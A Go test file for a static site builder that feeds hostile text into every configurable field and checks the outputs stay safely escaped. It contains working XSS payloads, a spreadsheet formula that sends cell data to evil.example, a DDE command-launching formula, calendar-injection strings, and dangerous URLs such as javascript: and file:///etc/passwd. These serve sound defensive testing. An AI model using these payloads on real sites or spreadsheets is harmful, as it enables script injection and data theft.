package build

import (
	"fmt"
	"io/fs"
	"maps"
	"net/url"
	"os"
	"path"
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"text/template"
	"unicode/utf8"

	"bunting/internal/config"
	"bunting/internal/content"
	"bunting/internal/diag"
	"bunting/themes"
)

// injections are what somebody may write into a text, by accident or not.
var injections = []struct{ name, text string }{
	{"script", `</script><script>alert(1)</script>`},
	{"title", `</title></textarea></style></template><h1>x</h1>`},
	{"attribute", `"><img src=x onerror=alert(1)>`},
	{"single quotes", `' onmouseover='alert(1)' x='`},
	{"back quotes", "` onload=alert(1) `${alert(1)}`"},
	{"svg", `<svg onload=alert(1)>`},
	{"link", `javascript:alert(1)`},
	{"template", `{{.}}{{template "base" .}} {name} {n} %s %!d`},
	{"cdata", `]]><!-- --><?xml x?><x y="z"/>`},
	{"comment", `<!--><script>--!>`},
	{"entities", `&quot;&lt;b&gt;&amp;amp;&#39;&#x0;&nbsp`},
	{"calendar", "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY;X=\"y:z"},
	{"calendar escapes", `a\nb\;c\,d;e,f:g^n^'^^\`},
	{"formula", `=HYPERLINK("https://evil.example/?"&A1,"x")`},
	{"other formulas", "@SUM(1+1)*cmd|' /C calc'!A0"},
	{"separators", "a\u2028b\u2029c\u0085d"},
	{"lone carriage return", "a\rBEGIN:VALARM"},
	{"controls", "a\x01b\x1b[31mc\x7fd"},
	{"right to left", "\u202e\u2067evil\u2066\u202d"},
	{"noncharacters", "a\ufffeb\uffffc"},
	{"emoji", "👩‍👩‍👧‍👦🇨🇳"},
	{"long", strings.Repeat("很长的文字，", 30)},
	{"header", "x\n/*\n  Set-Cookie: a=b\n/a /b 301"},
}

// plain stands in the harmless site where an injection stands in the other.
const plain = "Zinnia"

const (
	oddURL  = `"https://odd.example/a'b;c,d$(e)&amp;f=%3Cg%3E&h=1#\u202ei\u2028"`
	oddMail = "\"o'brien&{{.}}|$x=1@mail.example\""
	oddFile = `a'b&#39;"c;d<e>{{.}} =f, 表#1%41.pdf`
	when    = "2021-09-11T10:00:00"
)

// documents make a site that sets every key that a site may set.
var documents = []document{
	{file: "config.toml", read: "config.raw", without: []string{"images.service", "images.endpoint", "deploy.targets[].keep"}, fixed: map[string]string{
		"baseURL": `"https://kepu.example/2021/"`, "defaultLanguage": `"zh"`, "theme": `"festival"`, "timeZone": `"Asia/Shanghai"`,
		"languages.zh.locale": `"zh-Hans-CN"`, "languages.en.locale": `"en-GB"`,
		"campaign.edition": "18", "campaign.start": "2021-09-11", "campaign.end": "2021-09-17", "campaign.yearRound": "true",
		"campaign.logos[]": "'''" + strings.Replace(oddFile, ".pdf", ".svg", 1) + "'''", "campaign.unit": `"day"`, "campaign.parent.url": oddURL,
		"legal.corrections": oddURL, "legal.meta": "true",
		"milestones[].id": `"m"`, "milestones[].start": "2021-08-16", "milestones[].end": "2021-09-24", "milestones[].audience": `"public"`,
		"milestones[].url": oddURL, "milestones[].parentEnd": "2021-10-22",
		"organizers[].id": `"org"`, "organizers[].role": `"host"`, "organizers[].url": oddURL,
		"strands[].id": `"s"`, "series[].id": `"online"`, "series[].page": `"online"`,
		"actions[].id": `"a"`, "actions[].series": `"online"`, "actions[].leads[]": `"org"`, "actions[].start": "2021-09-11", "actions[].end": "2021-09-12",
		"regions[].id": `"r"`, "regions[].parent": "",
		"venues[].id": `"hall"`, "venues[].region": `"r"`, "venues[].location[]": "", "venues[].datum": `"gcj02"`, "venues[].capacity": "100",
		"venues[].url": oddURL, "venues[].main": "true", "venues[].rooms[].id": `"room"`, "venues[].rooms[].capacity": "20",
		"offices[].id": `"office"`, "offices[].paths[]": `"content/events/r/**"`, "offices[].region": `"r"`, "offices[].email": oddMail, "contacts[].email": oddMail,
		"build.drafts": "true", "build.future": "true", "cache.url": `"file:///nowhere"`, "cache.endpoint": oddURL, "cache.region": `"r"`, "cache.pathStyle": "true", "cache.budget": `"2GB"`, "images.originals": "true", "images.widths[]": "100", "images.quality": "70", "images.formats[]": `"jpeg"`, "images.maxPixels": "1000000", "deploy.targets[].name": `"live"`, "deploy.targets[].url": `"s3://bucket"`, "deploy.targets[].endpoint": oddURL, "deploy.targets[].region": `"r"`, "deploy.targets[].pathStyle": "true", "deploy.targets[].encodings[]": `"gzip"`, "deploy.targets[].grace": `"1h"`, "params": "{}",
	}},
	{file: "content/home.md", read: "content.rawTopic", fixed: map[string]string{"personalData": `"public"`}, body: "Body."},
	{file: "content/home.en.md", read: "content.rawTranslation", without: []string{"sessions", "photos", "attachments", "coverage", "videos"}, body: "Body."},
	{file: "content/notice.md", read: "content.rawNotice", fixed: with(shared, map[string]string{
		"slug": "", "aliases[]": `"/old-notice/"`, "signed": "2021-08-10", "issued": "2021-08-11", "attachments[].file": "'''" + oddFile + "'''",
	}), body: "Body."},
	{file: "content/venues/hall.md", read: "content.rawVenue", fixed: map[string]string{"personalData": `"public"`, "photos[].file": `"photo.jpg"`, "photos[].focus[]": ""}, body: "Body."},
	{file: "content/actions/a.md", read: "content.rawTopic", fixed: map[string]string{"personalData": `"public"`}, body: "Body."},
	{file: "content/strands/s.md", read: "content.rawTopic", fixed: map[string]string{"personalData": `"public"`}, body: "Body."},
	{file: "content/regions/r.md", read: "content.rawTopic", fixed: map[string]string{"personalData": `"public"`}, body: "Body."},
	{file: "content/pages/about.md", read: "content.rawPage", fixed: with(shared, map[string]string{
		"photos[].file": `"photo.jpg"`, "photos[].focus[]": "", "slug": `"about-us"`, "aliases[]": `"/old-about/"`, "publishAt": when, "weight": "1", "draft": "true",
	}), body: "Body."},
	{file: "content/news/n.md", read: "content.rawNews", fixed: with(shared, map[string]string{
		"photos[].file": `"photo.jpg"`, "photos[].focus[]": "", "slug": "", "aliases[]": `"/old-news/"`, "date": "2021-09-10", "url": oddURL,
	}), body: "Body."},
	{file: "content/events/r/one/index.md", read: "content.rawEvent", without: []string{"start", "end", "place", "address", "location", "sessions[].from",
		"sessions[].to", "sessions[].hours", "sessions[].weekdays", "sessions[].except", "fee", "videos[].url"}, fixed: with(event, nil, "videos[].url"), body: "Body."},
	{file: "content/events/r/one/index.en.md", read: "content.rawTranslation", fixed: map[string]string{
		"photos[].file": `"photo.jpg"`, "attachments[].file": "'''" + oddFile + "'''",
	}, body: "Body."},
	{file: "content/events/r/two/index.md", read: "content.rawEvent", without: []string{"sessions", "venue", "free", "videos[].file", "videos[].captions"}, fixed: with(event, map[string]string{
		"slug": `"second"`, "aliases[]": `"/old-two/"`, "status": `"cancelled"`, "start": when, "end": "2021-09-11T12:00:00",
		"location[]": "", "registration.full": "true", "replay": oddURL,
	}, "venue", "free", "sessions[].start", "sessions[].end", "sessions[].url", "sessions[].room", "videos[].file", "videos[].captions"), body: "Body."},
	{file: "content/events/r/three/index.md", read: "content.rawEvent", without: []string{"start", "end", "place", "address", "location", "sessions[].start",
		"sessions[].end", "free", "summary", "videos[].url"}, fixed: with(event, map[string]string{
		"slug": `"third"`, "aliases[]": `"/old-three/"`, "sessions[].from": "2021-09-11", "sessions[].to": "2021-09-14", "sessions[].hours": `"22:00-02:00"`,
		"sessions[].weekdays[]": `"sat"`, "sessions[].except[]": "2021-09-13", "attendance": `"mixed"`, "status": `"scheduled"`,
	}, "free", "sessions[].start", "sessions[].end", "videos[].url"), body: "Body."},
}

// shared are the keys of all documents that must have a certain form.
var shared = map[string]string{"draft": "false", "publishAt": when, "weight": "0", "personalData": `"public"`}

// event are those of an event in the main venue.
var event = with(shared, map[string]string{
	"slug": `"first"`, "aliases[]": `"/old-one/"`,
	"sessions[].start": when, "sessions[].end": "2021-09-11T12:00:00", "sessions[].room": `"room"`, "sessions[].url": oddURL,
	"venue": `"hall"`, "region": `"r"`, "actions[]": `"a"`, "strands[]": `"s"`,
	"attendance": `"online"`, "status": `"moved-online"`, "statusChanged": "2021-09-10T18:00:00", "url": oddURL, "featured": "true",
	"registration.booking": `"required"`, "registration.url": oddURL, "registration.opens": when, "registration.closes": "2021-09-12T10:00:00",
	"registration.capacity": "20", "registration.full": "false", "free": "true", "public": "true", "spoken[]": `"zh"`,
	"replay": "", "contact.email": oddMail, "photos[].file": `"photo.jpg"`, "photos[].focus[]": "", "videos[].url": oddURL, "videos[].file": `"film.mp4"`, "videos[].poster": `"photo.jpg"`, "videos[].captions": `{ zh = "film.vtt", en = "film.vtt" }`,
	"coverage[].url": oddURL, "coverage[].date": "2021-09-12", "attachments[].file": "'''" + oddFile + "'''",
	"results.participants": "1", "results.volunteers": "2", "results.onlineViews": "3", "office": `"office"`,
})

// with returns a and b together, without some keys.
func with(a, b map[string]string, without ...string) map[string]string {
	out := maps.Clone(a)
	maps.Copy(out, b)
	for _, k := range without {
		delete(out, k)
	}
	return out
}

// says returns what each key of the site says: the text, the key, and digits
// where they decide whether there is a link.
func says(text string) func(file, path string) string {
	return func(file, path string) string {
		s := text + " " + file + " " + path
		if strings.HasSuffix(path, "phone") || strings.HasSuffix(path, "police") {
			s += " 0991 6386020"
		}
		return s
	}
}

// siteOf writes the site whose texts are what value says.
func siteOf(t testing.TB, value func(file, path string) string) map[string]string {
	t.Helper()
	s := readSchema(t)
	files := map[string]string{"static/" + strings.Replace(oddFile, ".pdf", ".svg", 1): "<svg xmlns='http://www.w3.org/2000/svg'/>"}
	for _, d := range documents {
		files[d.file] = d.text(t, s, value)
		if strings.HasSuffix(d.file, ".md") {
			files[path.Dir(d.file)+"/"+oddFile] = "%PDF"
			files[path.Dir(d.file)+"/photo.jpg"] = photoFile(1)
			files[path.Dir(d.file)+"/film.mp4"], files[path.Dir(d.file)+"/film.vtt"] = filmFile(""), "WEBVTT\n\n00:01.000 --> 00:02.000\n…\n"
		}
	}
	return files
}

// TestEveryKey asks that the documents set every key that the program reads
// from a file, so that no text is left untried.
func TestEveryKey(t *testing.T) {
	s := readSchema(t)
	// With a resizing service, pages load from elsewhere: a script has its cases.
	set := map[string]bool{"config.raw images.service": true, "config.raw images.endpoint": true}
	for _, d := range documents {
		for _, k := range s.keys(t, d.read) {
			without := slices.ContainsFunc(d.without, func(w string) bool {
				return w == k.path || strings.HasPrefix(k.path, w+".") || strings.HasPrefix(k.path, w+"[]")
			})
			if !without && (k.kind == "string" || k.kind == "campaign.Text") {
				set[d.read+" "+k.path] = true
			}
		}
	}
	source, err := os.ReadFile("../content/read.go")
	if err != nil {
		t.Fatal(err)
	}
	roots := []string{"config.raw"}
	for _, m := range regexp.MustCompile(`new\((raw\w+)\)`).FindAllSubmatch(source, -1) {
		roots = append(roots, "content."+string(m[1]))
	}
	n := 0
	for _, root := range roots {
		for _, k := range s.keys(t, root) {
			n++
			if (k.kind == "string" || k.kind == "campaign.Text") && !set[root+" "+k.path] {
				t.Errorf("no document sets %s of %s", k.path, root)
			}
		}
	}
	if n < 150 {
		t.Errorf("only %d keys were found", n)
	}
}

// clean is what feeds promise to keep of a text: line breaks become line
// feeds, control characters go.
func clean(s string) string {
	s = strings.NewReplacer("\r\n", "\n", "\r", "\n", "\u0085", "\n", "\u2028", "\n", "\u2029", "\n").Replace(s)
	return strings.Map(func(r rune) rune {
		if r < ' ' && r != '\n' && r != '\t' || r >= 0x7f && r <= 0x9f || r == '\ufffe' || r == '\uffff' {
			return -1
		}
		return r
	}, s)
}

// expected returns what a reader of an output must see of an injection.
func expected(name, text string) string {
	if strings.HasSuffix(name, ".html") { // HTML 13.2.3.5
		return strings.NewReplacer("\r\n", "\n", "\r", "\n").Replace(text)
	}
	return clean(text)
}

// The few places that do not show a text as it is.
var (
	clipped  = regexp.MustCompile(`(?:meta\[(?:og:)?description\]@content|^\.short_name)$`)
	numbered = regexp.MustCompile(`^(?:tel:\+?\d+|https://beian\.mps\.gov\.cn/#/query/webSearch\?code=\d+)$`)
	oneLine  = regexp.MustCompile(`room@name$|>room#text$`)
)

// compare holds an output with an injection to the same output without: it
// must have the same structure, and where that says plain, this must say the
// injection, whole.
func compare(name string, harmless, hostile []byte, text string) []string {
	want, err := leaves(name, harmless)
	if err != nil {
		return []string{"the harmless " + name + ": " + err.Error()}
	}
	got, err := leaves(name, hostile)
	if err != nil {
		return []string{err.Error()}
	}
	var out []string
	sees := expected(name, text)
	for i := range min(len(want), len(got)) {
		w, g := want[i], got[i]
		if w.path != g.path {
			return append(out, fmt.Sprintf("%s where the harmless page has %s", g.path, w.path))
		}
		full := strings.ReplaceAll(w.value, plain, sees)
		if strings.Contains(w.path, ".") && strings.HasSuffix(name, ".html") && strings.Contains(w.path, "script") {
			full = strings.ReplaceAll(w.value, plain, clean(text)) // JSON-LD
		}
		switch {
		case g.value == full:
		case strings.HasSuffix(name, ".csv") && g.value == "'"+full: // kept from being a formula
		case strings.ReplaceAll(w.value, plain, url.QueryEscape(text)) == g.value && strings.HasSuffix(w.path, "@href"):
		case numbered.MatchString(g.value) && numbered.MatchString(w.value):
		case clipped.MatchString(w.path) && strings.HasSuffix(g.value, "…") && utf8.RuneCountInString(g.value) <= 160:
		case oneLine.MatchString(w.path) && strings.Join(strings.Fields(full), " ") == g.value:
		default:
			out = append(out, fmt.Sprintf("%s: got %s, want %s", w.path, short(g.value), short(full)))
		}
	}
	if len(want) != len(got) {
		out = append(out, fmt.Sprintf("%d parts instead of %d", len(got), len(want)))
	}
	if strings.HasSuffix(name, ".html") {
		doc, err := parseHTML(hostile)
		if err != nil {
			return append(out, err.Error())
		}
		out = append(out, risky(doc, "/2021/")...)
	}
	return out
}

// isBinary tells whether a file is copied as it is.
func isBinary(name string) bool {
	return slices.Contains([]string{".pdf", ".png", ".jpg"}, path.Ext(name))
}

func short(s string) string {
	if len(s) > 300 {
		s = s[:300] + "…"
	}
	return fmt.Sprintf("%q", s)
}

// TestInjection puts each injection into every text of a site at once, and
// reads every output with parsers of its own.
func TestInjection(t *testing.T) {
	harmless := mustMake(t, folder(t, siteOf(t, says(plain))))
	shown := map[string]bool{} // keys whose text some output shows
	for name, data := range harmless.files {
		if isBinary(name) {
			continue
		}
		found, err := leaves(name, data)
		if err != nil {
			t.Errorf("%s: %v", name, err)
		}
		for _, l := range found {
			for _, s := range regexp.MustCompile(plain+` \S+ \S+`).FindAllString(l.value, -1) {
				shown[s] = true
			}
		}
	}
	if len(shown) < 80 {
		t.Errorf("only %d texts are shown anywhere", len(shown))
	}
	for _, x := range injections {
		t.Run(x.name, func(t *testing.T) {
			hostile := mustMake(t, folder(t, siteOf(t, says(x.text))))
			if got, want := slices.Sorted(maps.Keys(hostile.files)), slices.Sorted(maps.Keys(harmless.files)); !slices.Equal(got, want) {
				t.Fatalf("the files are\n%q, not\n%q", got, want)
			}
			for _, name := range slices.Sorted(maps.Keys(harmless.files)) {
				if isBinary(name) {
					continue
				}
				for i, problem := range compare(name, harmless.files[name], hostile.files[name], x.text) {
					if i == 5 {
						break
					}
					t.Errorf("%s: %s", name, problem)
				}
			}
		})
	}
}

// TestInjectionIsFound renders the same views with the same layouts through
// text/template, which escapes nothing: the comparison above must then
// complain, or it would be worth nothing.
func TestInjectionIsFound(t *testing.T) {
	raw := func(text string) map[string][]byte {
		m := mustMake(t, folder(t, siteOf(t, says(text))))
		return renderRaw(t, m)
	}
	harmless := raw(plain)
	for _, name := range []string{"script", "attribute", "svg", "title", "comment", "entities"} {
		i := slices.IndexFunc(injections, func(x struct{ name, text string }) bool { return x.name == name })
		text := injections[i].text
		hostile := raw(text)
		for _, page := range []string{"index.html", "en/index.html", "events/index.html", "events/r/first.html", "main-venue/index.html", "notice.html", "actions/index.html"} {
			found := compare(page, harmless[page], hostile[page], text)
			if len(found) == 0 {
				t.Errorf("%s: nobody noticed that %s is not escaped", page, name)
			}
		}
	}
}

// renderRaw renders the pages of a site without escaping.
func renderRaw(t *testing.T, m *made) map[string][]byte {
	t.Helper()
	layouts, err := fs.Sub(themes.FS, "festival/layouts")
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][]byte{}
	for path, page := range m.views {
		set := template.New(page.Layout).Funcs(template.FuncMap{
			"t": m.theme.Messages(string(page.Lang)).T, "asset": func(name string) string { return "/2021/" + name },
		})
		err := fs.WalkDir(layouts, ".", func(name string, d fs.DirEntry, err error) error {
			stem := strings.TrimSuffix(name, ".html")
			if err != nil || d.IsDir() || strings.Contains(stem, "/") != strings.HasPrefix(stem, "partials/") ||
				stem != "base" && stem != page.Layout && !strings.HasPrefix(stem, "partials/") {
				return err
			}
			text, err := fs.ReadFile(layouts, name)
			if err != nil {
				return err
			}
			_, err = set.New(stem).Parse(string(text))
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
		var b strings.Builder
		if err := set.ExecuteTemplate(&b, page.Layout, page.View); err != nil {
			t.Fatal(err)
		}
		out[path] = []byte(strings.TrimLeft(b.String(), "\n"))
	}
	return out
}

// bodies are texts that an author may write in Markdown.
var bodies = []string{
	"<script>alert(1)</script>\n\n<style>@import 'https://evil.example/x.css';</style>\n\n<iframe src=//evil.example></iframe>",
	"<img src=x onerror=alert(1)> <svg onload=alert(1)> <a href=javascript:alert(1)>x</a> <b style='background:url(//evil.example)'>x</b>",
	"<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'><form action=//evil.example><input name=x>",
	"[x](javascript:alert(1)) [y](<data:text/html,<script>alert(1)</script>>) [z](jAvAsCrIpT&#58;alert(1)) <javascript:alert(1)> [w](//evil.example)",
	"![x](https://evil.example/x.png) ![y](data:image/svg+xml,x)\n\n[z]: javascript:alert(1)\n\n[z] [^1]\n\n[^1]: <script>alert(1)</script>",
	"# Heading {onclick=alert(1) style=x #h:main .card-off}\n\nText\n{onmouseover=alert(1) src=//evil.example}\n\n- [x] <details open ontoggle=alert(1)>",
	"```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```\n\n> [!NOTE]<script>alert(1)</script>\n> x",
	"</main></body></html><script>alert(1)</script>\n\n</div></div></article><h1>Title</h1>",
	"<math><mtext></p><style><img src=x onerror=alert(1)></style></math> <noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
}

// TestBodies puts hostile Markdown into every text: whatever is said about it,
// no page runs, loads or leads where it must not.
func TestBodies(t *testing.T) {
	texts := slices.Clone(bodies)
	for _, x := range injections {
		texts = append(texts, x.text)
	}
	all := strings.Join(texts, "\n\n")
	for name, body := range map[string]string{"together": all, "apart": bodies[0]} {
		files := siteOf(t, says(plain))
		for file, text := range files {
			if strings.HasSuffix(file, ".md") {
				files[file] = strings.TrimSuffix(text, "Body.") + body
			}
		}
		m := tryMake(t, folder(t, files))
		if len(m.files) == 0 || m.list.Errors() == 0 && name == "together" {
			t.Errorf("%s: %d files, %d errors", name, len(m.files), m.list.Errors())
		}
		for path, data := range m.files {
			if !strings.HasSuffix(path, ".html") {
				continue
			}
			doc, err := parseHTML(data)
			if err != nil {
				t.Fatal(err)
			}
			for _, problem := range risky(doc, "/2021/") {
				t.Errorf("%s: %s: %s", name, path, problem)
			}
			if n := strings.Count(string(data), "<main"); n != 1 && m.views[path].Layout != "redirect" {
				t.Errorf("%s: %s has %d elements main", name, path, n)
			}
		}
	}
}

// TestAddresses asks that no key that holds an address takes one that runs, or
// that hides where it leads.
func TestAddresses(t *testing.T) {
	s := readSchema(t)
	files := siteOf(t, says(plain))
	tried := 0
	for _, d := range documents {
		for key, value := range d.fixed {
			if value != oddURL {
				continue
			}
			tried++
			for _, address := range []string{"javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "vbscript:x", "//evil.example/", "https:evil",
				"https://user:pass@evil.example/", "https://a.example/\"onclick=\"x", "file:///etc/passwd", "blob:https://x/1"} {
				hostile := d
				hostile.fixed = with(d.fixed, map[string]string{key: fmt.Sprintf("%q", address)})
				files := maps.Clone(files)
				files[d.file] = hostile.text(t, s, says(plain))
				if found := mistakes(t, files); !slices.ContainsFunc(found, func(x diag.Diagnostic) bool { return x.Code == diag.BadURL && x.Span.File == d.file && x.Span.Line > 0 }) {
					t.Errorf("%s takes %s = %q", d.file, key, address)
				}
			}
		}
	}
	if tried < 15 {
		t.Errorf("only %d keys hold addresses", tried)
	}
}

// mistakes returns what is wrong with a site's facts.
func mistakes(t *testing.T, files map[string]string) diag.List {
	t.Helper()
	fsys := fstest.MapFS{}
	for name, text := range files {
		fsys[name] = &fstest.MapFile{Data: []byte(text)}
	}
	c, _, list, err := config.Load(fsys)
	if err != nil || c == nil {
		t.Fatal(err, list)
	}
	docs, err := content.Load(fsys, c, content.Options{Drafts: true, Future: true, Now: now, Jobs: 1})
	if err != nil {
		t.Fatal(err)
	}
	return append(list, docs.Told()...)
}
